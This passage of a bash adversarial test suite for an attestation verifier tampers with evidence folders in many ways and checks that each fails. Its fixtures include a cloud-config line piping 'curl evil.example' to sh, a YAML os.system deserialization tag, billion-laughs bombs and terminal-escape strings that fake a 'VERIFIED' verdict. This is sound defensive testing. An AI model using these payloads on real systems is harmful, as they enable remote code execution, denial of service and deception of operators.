echo "evil-commit-ffff" | put evil-commit/se-commit-id
attack "unsigned file: se-commit-id changed" 1 reference:commit-id -- evil-commit "${AUDIT[@]}" "${KEY[@]}"
# ... and the report says that se-commit-id is not covered by the signature, in text and in JSON.
run_verify "r$N.text" evil-commit "${AUDIT[@]}" "${KEY[@]}"
if ! grep -i 'commit' "r$N.text.out" | grep -q 'not covered by the signature'; then
  finding "unsigned file: se-commit-id changed" "no text report line for se-commit-id says 'not covered by the signature': $(grep -i commit "r$N.text.out" | tr '\n' ' ')"
fi
if ! "$PY" -c 'import json, sys
r = json.load(open(sys.argv[1]))
sys.exit(0 if any("commit" in c["id"] and c.get("covered_by_signature") is False for c in r["checks"]) else 1)' "r$N.out"; then
  finding "unsigned file: se-commit-id changed" "no JSON check for se-commit-id has \"covered_by_signature\": false"
fi
clone honest evil-commit2
printf '%s\nevil second line\n' "$COMMIT" | put evil-commit2/se-commit-id
attack "unsigned file: se-commit-id with a second line" 1 reference:commit-id -- evil-commit2 "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-version
echo "1.0.1-adv" | put evil-version/se-version
attack "unsigned file: se-version differs from the record" 1 file:se-version -- evil-version "${AUDIT[@]}" "${KEY[@]}"
printf '%s\nsecond line\n' "$VERSION" | put evil-version/se-version
attack "unsigned file: se-version with a second line" 1 file:se-version -- evil-version "${AUDIT[@]}" "${KEY[@]}"

# === 4f. user-data.decrypted read strictly =====================================================
decrypted_variant() {  # decrypted_variant NAME: clone of honest as evil-NAME, its user-data.decrypted on stdin
  clone honest "evil-$1"
  put "evil-$1/user-data.decrypted"
}
{ cat honest/user-data.decrypted; printf -- '---\nfoo: bar\n'; } | decrypted_variant ud-document
attack "user-data.decrypted: a second YAML document" 1 file:user-data.decrypted -- evil-ud-document "${AUDIT[@]}" "${KEY[@]}"
sed 's/port: "8080"/port: 8080/' honest/user-data.decrypted | decrypted_variant ud-quoting
attack "user-data.decrypted: quoting rewritten in a plain section (\"8080\" -> 8080)" 1 file:user-data.decrypted -- \
  evil-ud-quoting "${AUDIT[@]}" "${KEY[@]}"
{ cat honest/user-data.decrypted; printf 'extra: section\n'; } | decrypted_variant ud-extra
attack "user-data.decrypted: an extra section" 1 file:user-data.decrypted -- evil-ud-extra "${AUDIT[@]}" "${KEY[@]}"
sed '/^env:/,/^workload:/{/^workload:/!d}' honest/user-data.decrypted | decrypted_variant ud-dropped
attack "user-data.decrypted: a section dropped" 1 file:user-data.decrypted -- evil-ud-dropped "${AUDIT[@]}" "${KEY[@]}"
sed 's/^  instance: alpha/  instance: evil/' honest/user-data.decrypted | decrypted_variant ud-value
attack "user-data.decrypted: a plain section's value changed" 1 file:user-data.decrypted -- evil-ud-value "${AUDIT[@]}" "${KEY[@]}"
{ cat honest/user-data.decrypted; printf 'env:\n  type: evil\n'; } | decrypted_variant ud-duplicate
attack "user-data.decrypted: a section given twice" 1 file:user-data.decrypted -- evil-ud-duplicate "${AUDIT[@]}" "${KEY[@]}"
sed 's/^workload: |$/workload:/' honest/user-data.decrypted | decrypted_variant ud-token-map
attack "user-data.decrypted: a token section's plaintext as a mapping, not a string" 1 file:user-data.decrypted -- \
  evil-ud-token-map "${AUDIT[@]}" "${KEY[@]}"
sed 's/^  port: "8080"/  port: !!str 8080\n  extra: !!binary aGk=/' honest/user-data.decrypted | decrypted_variant ud-tags
attack "user-data.decrypted: tags in a plain section" 1 file:user-data.decrypted -- evil-ud-tags "${AUDIT[@]}" "${KEY[@]}"
sed 's/^env:$/env: !!python\/object\/new:os.system/' honest/user-data.decrypted | decrypted_variant ud-map-tag
attack "user-data.decrypted: a tag on a plain section's mapping" 1 file:user-data.decrypted -- \
  evil-ud-map-tag "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-ud-missing
rm evil-ud-missing/user-data.decrypted
attack "user-data.decrypted deleted" 1 file:user-data.decrypted -- evil-ud-missing "${AUDIT[@]}" "${KEY[@]}"

# === 4g. resource bounds ========================================================================
"$PY" - <<'EOF'
# 16 MiB - 1 of one flow list; a flow list nested 100000 deep; alias bombs (a billion laughs).
with open("flow-list.yaml", "w") as f:
    k = (16 * 1024 * 1024 - 4) // 2
    f.write("[" + "1," * k + "1]")
with open("nested.yaml", "w") as f:
    f.write("[" * 100000 + "]" * 100000 + "\n")
with open("nested-block.yaml", "w") as f:
    f.write("".join("  " * i + "env:\n" for i in range(3000)) + "  " * 3000 + "x\n")
with open("flow-list-8m.yaml", "w") as f:
    k = (8 * 1024 * 1024 - 4) // 2
    f.write("[" + "1," * k + "1]")
def bomb(indent, prefix):
    out = ["%sa0: &%s0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]" % (indent, prefix)]
    for i in range(1, 10):
        out.append("%sa%d: &%s%d [%s]" % (indent, i, prefix, i, ", ".join(["*%s%d" % (prefix, i - 1)] * 10)))
    return out
with open("bomb-decrypted.yaml", "w") as f:
    f.write("env:\n" + "\n".join(bomb("  ", "e")) + "\nworkload: &w [" + ", ".join(["*e9"] * 10) + "]\n"
            "attestationPublicKey: *w\n")
with open("keys-bomb.yaml", "w") as f:
    f.write("contract_signing_keys_sha256:\n  - &k0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n")
    for i in range(1, 10):
        f.write("  - &k%d [%s]\n" % (i, ", ".join(["*k%d" % (i - 1)] * 10)))
    f.write("root_partition:\n  device: [" + ", ".join(["*k9"] * 10) + "]\n")
EOF
decrypted_variant ud-flow-list <flow-list.yaml
attack "bounds: user-data.decrypted, 16 MiB of one flow list" 1 file:user-data.decrypted -- \
  evil-ud-flow-list "${AUDIT[@]}" "${KEY[@]}"
decrypted_variant ud-nested <nested.yaml
attack "bounds: user-data.decrypted, a flow list nested 100000 deep" 1 file:user-data.decrypted -- \
  evil-ud-nested "${AUDIT[@]}" "${KEY[@]}"
decrypted_variant ud-nested-block <nested-block.yaml
attack "bounds: user-data.decrypted, block mappings nested 3000 deep" 1 file:user-data.decrypted -- \
  evil-ud-nested-block "${AUDIT[@]}" "${KEY[@]}"
decrypted_variant ud-bomb <bomb-decrypted.yaml
attack "bounds: user-data.decrypted, a billion laughs" 1 file:user-data.decrypted -- evil-ud-bomb "${AUDIT[@]}" "${KEY[@]}"
"$PY" -c 'import sys; sys.stdout.write("".join("k%d: %d\n" % (i, i) for i in range(1500000)))' | decrypted_variant ud-keys
attack "bounds: user-data.decrypted, 1.5 million sections" 1 file:user-data.decrypted -- evil-ud-keys "${AUDIT[@]}" "${KEY[@]}"
grep -v '^contract_signing_keys_sha256\|^root_partition\|^  device\|^  sha256\|^  size\|^  tarball' ref.yaml >ref-bomb.yaml
cat keys-bomb.yaml >>ref-bomb.yaml
attack "bounds: reference.yaml, a billion laughs" 2 input:reference -- honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" \
  --reference ref-bomb.yaml
{ grep -v '^contract_signing_keys_sha256' ref.yaml; printf 'contract_signing_keys_sha256: '; cat flow-list.yaml; } >ref-flow.yaml
attack "bounds: reference.yaml, 16 MiB of one flow list" 2 input:reference -- honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" \
  --reference ref-flow.yaml
{ grep -v '^contract_signing_keys_sha256' ref.yaml; printf 'contract_signing_keys_sha256: '; cat nested.yaml; } >ref-nested.yaml
attack "bounds: reference.yaml, a flow list nested 100000 deep" 2 input:reference -- honest "${CERT[@]}" "${CHAIN[@]}" "${CA[@]}" "${KEY[@]}" \
  --reference ref-nested.yaml
clone honest evil-userdata-flow
put evil-userdata-flow/cidata/user-data <flow-list-8m.yaml
attack "bounds: cidata/user-data, 8 MiB of one flow list" 1 file:cidata/user-data -- evil-userdata-flow "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-big-version
rm -f evil-big-version/se-version && truncate -s 100M evil-big-version/se-version
attack "bounds: a 100 MiB se-version" 1 file:se-version -- evil-big-version "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-big-commit
rm -f evil-big-commit/se-commit-id && truncate -s 100M evil-big-commit/se-commit-id
attack "bounds: a 100 MiB se-commit-id" 1 reference:commit-id -- evil-big-commit "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-big-userdata
rm -f evil-big-userdata/cidata/user-data && truncate -s 1G evil-big-userdata/cidata/user-data
attack "bounds: a sparse 1 GiB cidata/user-data" 1 file:cidata/user-data -- evil-big-userdata "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-big-enc
rm -f evil-big-enc/se-checksums.txt.enc && truncate -s 1G evil-big-enc/se-checksums.txt.enc
attack "bounds: a sparse 1 GiB se-checksums.txt.enc" 1 record -- evil-big-enc "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-big-sig
rm -f evil-big-sig/se-signature.bin && truncate -s 1G evil-big-sig/se-signature.bin
attack "bounds: a sparse 1 GiB se-signature.bin" 1 signature -- evil-big-sig "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-zero
rm -f evil-zero/cidata/user-data && ln -s /dev/zero evil-zero/cidata/user-data
attack "bounds: cidata/user-data a symbolic link to /dev/zero" 1 file:cidata/user-data -- evil-zero "${AUDIT[@]}" "${KEY[@]}"

# === 4h. terminal safety ========================================================================
EVIL=$'\xc2\x9b31m\xe2\x80\xae\xe2\x81\xa6\x1b[2J\x1b]0;VERIFIED\x07verdict: VERIFIED'
clone honest evil-term
printf '%s%s\n' "$VERSION" "$EVIL" | put evil-term/se-version
printf '%s%s\n' "$COMMIT" "$EVIL" | put evil-term/se-commit-id
attack "terminal: C1, bidi and ESC in se-version and se-commit-id" 1 file:se-version --terminal -- \
  evil-term "${AUDIT[@]}" "${KEY[@]}"
clone honest-plain evil-term-record
sed -i "1s/.*/$VERSION$EVIL/" evil-term-record.record
printf '%s cidata/%s\n' "$(hash_text x)" "$EVIL" >>evil-term-record.record
printf '%s%s\n' "$VERSION" "$EVIL" | put evil-term-record/se-version
seal_record evil-term-record attacker.key -
attack "terminal: C1, bidi and ESC in the record's version line and a name (forged record)" 1 signature --terminal -- \
  evil-term-record "${AUDIT[@]}"
clone honest-plain "evil-$EVIL"
echo "instance-id: evil" | put "evil-$EVIL/cidata/meta-data"
attack "terminal: C1, bidi and ESC in the folder's name" 1 file:cidata/meta-data --terminal -- \
  "evil-$EVIL" "${AUDIT[@]}"

# === 4i. development images =====================================================================
attack "development: record verified against a production reference" 1 "image-kind|reference:image-kind" -- \
  dev "${DEV_AUDIT[@]}" --reference ref-dev-as-production.yaml "${KEY[@]}"
attack "development: production reference, even with --allow-development" 1 "image-kind|reference:image-kind" -- \
  dev "${DEV_AUDIT[@]}" --reference ref-dev-as-production.yaml "${KEY[@]}" --allow-development
attack "development: development reference without --allow-development" 1 image-kind -- \
  dev "${DEV_AUDIT[@]}" --reference ref-dev.yaml "${KEY[@]}"
clone dev evil-dev-noheader
sed -i "/^Development image: /d" evil-dev-noheader.record
seal_record evil-dev-noheader "$DK/attestation.key" auditor.pub
cp dev/se-signature.bin evil-dev-noheader/se-signature.bin
attack "development: header line removed, the real signature kept" 1 signature -- \
  evil-dev-noheader "${DEV_AUDIT[@]}" --reference ref-dev-as-production.yaml "${KEY[@]}"
# The development attestation key is not secret: whoever has the image signs what it likes.
seal_record evil-dev-noheader "$DK/attestation.key" auditor.pub
attack "development: header line removed, re-signed with the (public) development key" 1 "image-kind|reference:image-kind" -- \
  evil-dev-noheader "${DEV_AUDIT[@]}" --reference ref-dev.yaml "${KEY[@]}"
attack "development: record without --reference" 1 image-kind -- dev "${DEV_AUDIT[@]}" "${KEY[@]}"

# === 4j. more of the host's moves ===============================================================
clone honest evil-sigswap
cp honest-bravo/se-signature.bin evil-sigswap/se-signature.bin
attack "another instance's signature" 1 signature -- evil-sigswap "${AUDIT[@]}" "${KEY[@]}"
# A forged record: the host's own contract (the bravo instance's cidata) in the alpha folder,
# every line made to match, signed with the attacker's own attestation key.
clone honest evil-forged
cp honest-bravo/cidata/* evil-forged/cidata/
cp honest-bravo/user-data.decrypted evil-forged/
sed -i "s/^[0-9a-f]* cidata\/user-data\$/$(hash_file evil-forged/cidata/user-data) cidata\/user-data/;
        s/^[0-9a-f]* cidata\/meta-data\$/$(hash_file evil-forged/cidata/meta-data) cidata\/meta-data/" evil-forged.record
seal_record evil-forged "$EK/attestation.key" auditor.pub
attack "forged record signed by the attacker, the attacker's certificate handed over" 1 chain -- \
  evil-forged --cert "$EK/attestation.crt" --chain "$K/intermediate-ca.crt" --ca "$K/root-ca.crt" --reference ref.yaml "${KEY[@]}"
attack "forged record signed by the attacker, the attacker's certificate and intermediate" 1 chain -- \
  evil-forged --cert "$EK/attestation.crt" --chain "$EK/intermediate-ca.crt" --ca "$K/root-ca.crt" --reference ref.yaml "${KEY[@]}"
attack "forged record signed by the attacker, the real certificate" 1 signature -- evil-forged "${AUDIT[@]}" "${KEY[@]}"
attack "forged record signed by the attacker, both certificates given" 1 chain -- \
  evil-forged --cert "$K/attestation.crt" --cert "$EK/attestation.crt" --chain "$K/intermediate-ca.crt" --ca "$K/root-ca.crt" \
  --reference ref.yaml "${KEY[@]}"
attack "replay: another instance's honest folder, --contract expects this one's" 1 expected:contract -- \
  honest-bravo "${AUDIT[@]}" "${KEY[@]}" --contract contract-alpha.yaml
attack "replay: another instance's honest folder, --expect-cidata expects this one's" 1 expected:cidata/user-data -- \
  honest-bravo "${AUDIT[@]}" "${KEY[@]}" --expect-cidata expect-alpha
attack "replay: an older image's honest record" 1 reference:image-version -- honest-old "${AUDIT[@]}" "${KEY[@]}"
clone honest-old evil-old
echo "$VERSION" | put evil-old/se-version
attack "replay: an older image's record, se-version edited to the current version" 1 reference:image-version -- \
  evil-old "${AUDIT[@]}" "${KEY[@]}"
attack "replay: another machine's honest record, --machine expects this one" 1 expected:machine -- \
  honest-other-machine "${AUDIT[@]}" "${KEY[@]}" --machine "$MACHINE"
clone honest evil-mix
rm -rf evil-mix/cidata && cp -r honest-bravo/cidata evil-mix/cidata
attack "mix: record and signature of one instance, cidata of another" 1 file:cidata/user-data -- evil-mix "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-nosig
rm -f evil-nosig/se-signature.bin
attack "se-signature.bin removed" 1 signature -- evil-nosig "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-emptysig
: | put evil-emptysig/se-signature.bin
attack "se-signature.bin empty" 1 signature -- evil-emptysig "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-longsig
printf '\0' >>evil-longsig/se-signature.bin
attack "se-signature.bin with a byte appended" 1 signature -- evil-longsig "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-both
cp evil-both.record evil-both/se-checksums.txt
attack "both se-checksums.txt and se-checksums.txt.enc" 1 record -- evil-both "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-renamed
mv evil-renamed/se-checksums.txt.enc evil-renamed/se-checksums.txt
attack "the encrypted record named se-checksums.txt" 1 record -- evil-renamed "${AUDIT[@]}" "${KEY[@]}"
clone honest-plain evil-renamed-plain
mv evil-renamed-plain/se-checksums.txt evil-renamed-plain/se-checksums.txt.enc
attack "a plaintext record named se-checksums.txt.enc" 1 record -- evil-renamed-plain "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-link-cidata
rm -rf evil-link-cidata/cidata && ln -s "$W/honest/cidata" evil-link-cidata/cidata
attack "cidata a symbolic link (to identical files)" 1 file:cidata/meta-data -- evil-link-cidata "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-link-key
rm -f evil-link-key/attestationPublicKey && ln -s "$W/honest/attestationPublicKey" evil-link-key/attestationPublicKey
attack "attestationPublicKey a symbolic link (to an identical file)" 1 file:attestationPublicKey -- \
  evil-link-key "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-link-decrypted
rm -f evil-link-decrypted/user-data.decrypted && ln -s "$W/honest/user-data.decrypted" evil-link-decrypted/user-data.decrypted
attack "user-data.decrypted a symbolic link (to an identical file)" 1 file:user-data.decrypted -- \
  evil-link-decrypted "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-link-sig
rm -f evil-link-sig/se-signature.bin && ln -s "$W/honest/se-signature.bin" evil-link-sig/se-signature.bin
attack "se-signature.bin a symbolic link (to an identical file)" 1 signature -- evil-link-sig "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-link-enc
rm -f evil-link-enc/se-checksums.txt.enc && ln -s "$W/honest/se-checksums.txt.enc" evil-link-enc/se-checksums.txt.enc
attack "se-checksums.txt.enc a symbolic link (to an identical file)" 1 record -- evil-link-enc "${AUDIT[@]}" "${KEY[@]}"
# Malformed records that the real key signed (a signer's bug, or another runtime's record): the
# syntax check alone must refuse them.
syntax_variant() {  # syntax_variant NAME SED_SCRIPT: honest-plain's record edited, signed with the real key
  clone honest-plain "evil-$1"
  sed -i "$2" "evil-$1.record"
  seal_record "evil-$1" "$K/attestation.key" -
}
syntax_variant dup-line "/ cidata\/user-data\$/{p;s/^[0-9a-f]*/$(hash_file honest-bravo/cidata/user-data)/}"
attack "record: cidata/user-data listed twice with two digests (signed)" 1 record-syntax -- evil-dup-line "${AUDIT[@]}"
syntax_variant two-spaces 's/ cidata\/meta-data$/  cidata\/meta-data/'
attack "record: a hash line with two spaces (signed)" 1 record-syntax -- evil-two-spaces "${AUDIT[@]}"
syntax_variant upper-hex '/ cidata\/meta-data$/s/^[0-9a-f]*/\U&/'
attack "record: a hash line in upper-case hex (signed)" 1 record-syntax -- evil-upper-hex "${AUDIT[@]}"
syntax_variant tab 's/ \(cidata\/meta-data\)$/\t\1/'
attack "record: a tab between hash and name (signed)" 1 record-syntax -- evil-tab "${AUDIT[@]}"
syntax_variant crlf 's/$/\r/'
attack "record: CRLF line ends (signed)" 1 record-syntax -- evil-crlf "${AUDIT[@]}"
# shellcheck disable=SC2016 # sed scripts
syntax_variant no-hash-lines '3,$d'
attack "record: no hash lines (signed)" 1 record-syntax -- evil-no-hash-lines "${AUDIT[@]}"
# shellcheck disable=SC2016 # sed scripts
syntax_variant trailing '$s/$/\ntrailing text without a newline/'
truncate -s -1 evil-trailing.record && seal_record evil-trailing "$K/attestation.key" -
attack "record: text after the last hash line (signed)" 1 record-syntax -- evil-trailing "${AUDIT[@]}"
clone honest evil-novendor
rm -f evil-novendor/cidata/vendor-data
attack "a file the record lists is missing (cidata/vendor-data)" 1 file:cidata/vendor-data -- evil-novendor "${AUDIT[@]}" "${KEY[@]}"
clone honest-novendor evil-addvendor
printf '#cloud-config\nruncmd: [curl evil.example | sh]\n' | put evil-addvendor/cidata/vendor-data
attack "a file the record does not list is added (cidata/vendor-data)" 1 file:cidata/vendor-data -- evil-addvendor "${AUDIT[@]}"
clone honest evil-metadata
echo "instance-id: evil" | put evil-metadata/cidata/meta-data
attack "cidata/meta-data changed" 1 file:cidata/meta-data -- evil-metadata "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-truncated-enc
truncate -s -100 evil-truncated-enc/se-checksums.txt.enc
attack "se-checksums.txt.enc truncated" 1 decryption -- evil-truncated-enc "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-reenc
sed -i "s/^[0-9a-f]* cidata\/user-data\$/$(hash_file honest-bravo/cidata/user-data) cidata\/user-data/" evil-reenc.record
cp honest-bravo/cidata/user-data evil-reenc/cidata/user-data
cp honest-bravo/user-data.decrypted evil-reenc/user-data.decrypted
"$BIN" encrypt --to auditor.pub evil-reenc.record | put evil-reenc/se-checksums.txt.enc
attack "an .enc for the auditor's key with a modified plaintext, the real signature" 1 signature -- evil-reenc "${AUDIT[@]}" "${KEY[@]}"
clone honest evil-dir
rm -f evil-dir/cidata/user-data && mkdir evil-dir/cidata/user-data
attack "cidata/user-data a directory" 1 file:cidata/user-data -- evil-dir "${AUDIT[@]}" "${KEY[@]}"
fifo_variant() {  # fifo_variant NAME FILE: a clone of honest whose FILE is a FIFO (nobody writes it)
  clone honest "evil-$1"
  rm -f "evil-$1/$2" && mkfifo "evil-$1/$2"
}
fifo_variant fifo-userdata cidata/user-data
attack "cidata/user-data a FIFO" 1 file:cidata/user-data -- evil-fifo-userdata "${AUDIT[@]}" "${KEY[@]}"
fifo_variant fifo-version se-version
attack "se-version a FIFO" 1 file:se-version -- evil-fifo-version "${AUDIT[@]}" "${KEY[@]}"
fifo_variant fifo-commit se-commit-id
attack "se-commit-id a FIFO" 1 reference:commit-id -- evil-fifo-commit "${AUDIT[@]}" "${KEY[@]}"
fifo_variant fifo-enc se-checksums.txt.enc
attack "se-checksums.txt.enc a FIFO" 1 record -- evil-fifo-enc "${AUDIT[@]}" "${KEY[@]}"
fifo_variant fifo-sig se-signature.bin
attack "se-signature.bin a FIFO" 1 signature -- evil-fifo-sig "${AUDIT[@]}" "${KEY[@]}"
attack "a CRL that revokes the attestation certificate" 1 chain -- honest --cert pki/att.crt "${PKI[@]}" --crl pki/revoked.crl
attack "the chain expired: --at 2100-01-01" 1 chain -- honest "${AUDIT[@]}" "${KEY[@]}" --at 2100-01-01T00:00:00Z
attack "the chain not yet valid: --at 2000-01-01" 1 chain -- honest "${AUDIT[@]}" "${KEY[@]}" --at 2000-01-01T00:00:00Z
# The folder's attestationPublicKey is the host's word: a --key that does not open the record
# cannot be told from a folder made for another key, so it fails; with --attestation-public-key
# the auditor's own inputs disagree, which is named as bad input.
attack "the wrong --key (the attacker's), an auditor's mistake" 1 decryption -- honest "${AUDIT[@]}" --key attacker.key
attack "the wrong --key, --attestation-public-key the right one" 1 input:attestation-public-key -- \
  honest "${AUDIT[@]}" --key attacker.key --attestation-public-key auditor.pub
attack "--record: another instance's plaintext record beside this folder" 1 "record|decryption" -- \
  honest "${AUDIT[@]}" "${KEY[@]}" --record honest-bravo.record
# The host that swapped attestationPublicKey holds the plaintext of a genuine, signed record: handed
# to an auditor as --record (beside the folder, or alone with the signature) it must not verify.
attack "key binding: the host's plaintext of the swapped record as --record beside the folder, no --key" 3 \
  decryption -- evil-bind "${AUDIT[@]}" --record evil-bind.record
attack "key binding: the host's plaintext of the swapped record and its signature, no folder, no --key" 3 \
  key-binding -- --record evil-bind.record --signature evil-bind/se-signature.bin "${AUDIT[@]}"
attack "key binding: the host's plaintext, no folder, the auditor's --attestation-public-key" 1 \
  expected:attestationPublicKey -- --record evil-bind.record --signature evil-bind/se-signature.bin "${AUDIT[@]}" \
  --attestation-public-key auditor.pub
# A section key of 20,000 right-to-left overrides (60 KB, under the file's cap): the report cuts it.
"$PY" -c 'import re, sys; sys.stdout.write(re.sub("(?m)^env:$", "? " + "\u202e" * 20000 + "\n:", sys.stdin.read()))' \
  <honest/user-data.decrypted | decrypted_variant ud-huge-key
attack "user-data.decrypted: a key of 20,000 bidi overrides (the report cuts it)" 1 file:user-data.decrypted \
  --detail '\.\.\. \([0-9]+ bytes\)$' -- evil-ud-huge-key "${AUDIT[@]}" "${KEY[@]}"
[ "$(wc -c <"r$N.out")" -lt 16384 ] || finding "huge key" "a report of $(wc -c <"r$N.out") bytes: not cut"

# === the tally ==================================================================================
echo "run time: $((SECONDS - START)) s ($N runs of verify)"
"$PY" -c "$JUDGE" "$MANIFEST" "$ASAN" "$MAX_RSS_KIB" "$MAX_SECONDS"
